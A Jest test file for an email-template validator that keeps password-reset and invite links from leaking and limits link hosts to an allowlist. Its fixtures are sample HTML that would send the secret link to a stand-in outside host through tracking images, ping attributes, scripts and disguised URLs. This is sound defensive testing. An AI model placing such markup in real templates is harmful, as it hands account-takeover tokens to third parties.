import { EMAIL_TEMPLATES } from '../../seed/email-templates';
import { allowedLinkHosts, linkHostProblem, secretLinksIn } from './link-safety';

describe('secretLinksIn', () => {
  it.each(EMAIL_TEMPLATES.map((t) => [t.key, t.content]))('finds the seeded %s template fit', (_key, content) => {
    expect(secretLinksIn(content).misplaced).toBeUndefined();
  });

  it('takes a secret placeholder that is the whole address of a link, spaces and the allowed attributes included', () => {
    const html =
      '<p><a href="{{resetLink}}">Reset</a> <a href=" {{ inviteLink }} " target="_blank" style="color: red" title="Go">Accept</a></p>';
    expect(secretLinksIn(html)).toEqual({ misplaced: undefined, linked: new Set(['resetLink', 'inviteLink']) });
  });

  it.each([
    [
      'the issue: an image on another host',
      '<img src="https://outside.example/p.gif?l={{resetLink}}">',
      'in the src of an <img>',
    ],
    ['an image whose address is the link', '<img src="{{resetLink}}" alt="">', 'in the src of an <img>'],
    [
      'inside another address',
      '<a href="https://outside.example/?next={{resetLink}}">Go</a>',
      'inside another address (https://outside.example/?next={{resetLink}})',
    ],
    [
      'the link with something after it',
      '<a href="{{resetLink}}#x">Go</a>',
      'inside another address ({{resetLink}}#x)',
    ],
    ['plain text', '<p>Copy this: {{resetLink}}</p>', 'in the text'],
    ['the title of a document', '<html><head><title>{{ resetLink }}</title></head></html>', 'in the text'],
    ['a style attribute', '<p style="background: url({{resetLink}})">x</p>', 'in the style of a <p>'],
    ['a data attribute', '<p data-x="{{resetLink}}">x</p>', 'in the data-x of a <p>'],
    [
      'another attribute of the link itself',
      '<a href="{{resetLink}}" title="{{resetLink}}">x</a>',
      'in the title of an <a>',
    ],
    [
      'a link that reports where it goes',
      '<a href="{{resetLink}}" ping="https://outside.example/">x</a>',
      'on a link that also has ping',
    ],
    ['a conditional comment Outlook shows', '<!--[if mso]><img src="{{resetLink}}"><![endif]-->', 'in a comment'],
    ['a script', '<script>new Image().src = "{{resetLink}}"</script>', 'in the text'],
    [
      'a repeated href, the second one elsewhere',
      '<a href="{{resetLink}}" href="https://outside.example/{{resetLink}}">x</a>',
      'inside another address (https://outside.example/{{resetLink}})',
    ],
    ['an attribute name', '<p {{resetLink}}>x</p>', 'in the name of an attribute of a <p>'],
  ])('refuses %s, saying where', (_what, html, where) => {
    const withLink = `<p><a href="{{resetLink}}">Reset</a></p>${html}`;
    expect(secretLinksIn(withLink).misplaced).toEqual({ placeholder: 'resetLink', where });
  });

  it('names the invite link the same way, and ignores placeholders that carry no secret', () => {
    expect(secretLinksIn('<img src="https://x.test/{{inviteLink}}">').misplaced).toEqual({
      placeholder: 'inviteLink',
      where: 'in the src of an <img>',
    });
    expect(secretLinksIn('<img src="https://x.test/{{firstName}}"><p>{{firstName}}</p>')).toEqual({
      misplaced: undefined,
      linked: new Set(),
    });
  });

  it('reads only the secrets asked about', () => {
    expect(secretLinksIn('<p>{{resetLink}}</p>', ['inviteLink']).misplaced).toBeUndefined();
  });
});

describe('linkHostProblem', () => {
  const hosts = allowedLinkHosts('https://backoffice.example.com/', ['cdn.example.com']);

  it('allows the public host and EMAIL_LINK_HOSTS, secret links, mailto:, tel:, inline images, anchors and relative addresses', () => {
    const html = [
      '<a href="https://backoffice.example.com/help">help</a>',
      '<a href="HTTPS://BackOffice.Example.com./u/{{userName}}">profile</a>',
      '<img src="https://cdn.example.com/logo.png" alt="logo">',
      '<a href="{{resetLink}}">reset</a>',
      '<a href="mailto:help@example.com">mail</a> <a href="tel:+15550100">call</a>',
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">',
      '<a href="#top">top</a> <a href="faq.html">faq</a>',
    ].join('');
    expect(hosts).toEqual(['backoffice.example.com', 'cdn.example.com']);
    expect(linkHostProblem(html, hosts)).toBeUndefined();
  });

  it.each([
    ['a link to another host', '<a href="https://outside.example/x">x</a>', 'outside.example'],
    ['an image from another host', '<img src="http://tracker.example/p.gif" alt="">', 'tracker.example'],
    ['a host hidden behind entities', '<a href="https&#58;//outside.example/">x</a>', 'outside.example'],
    ['a host after credentials', '<a href="https://backoffice.example.com@outside.example/">x</a>', 'outside.example'],
    ['a subdomain of an allowed host', '<img src="https://evil.cdn.example.com/a.png">', 'evil.cdn.example.com'],
  ])('refuses %s, naming the host', (_what, html, host) => {
    expect(linkHostProblem(html, hosts)).toBe(
      `Links and images may point only to backoffice.example.com or cdn.example.com: ${host} is not one of them (ask an operator to add it to EMAIL_LINK_HOSTS)`,
    );
  });

  it.each([
    ['an address a placeholder chooses', '<a href="{{firstName}}">x</a>', '{{firstName}}'],
    ['a host a placeholder writes', '<a href="https://{{firstName}}.example/">x</a>', null],
    ['a protocol-relative address', '<img src="//outside.example/p.gif">', '//outside.example/p.gif'],
  ])('refuses %s', (_what, html, url) => {
    const problem = linkHostProblem(html, hosts);
    expect(problem).toBeDefined();
    if (url) {
      expect(problem).toBe(
        `Write each link and image as a whole address on backoffice.example.com or cdn.example.com (https://backoffice.example.com/…), or a mailto: link: "${url}" is not one`,
      );
    }
  });
});
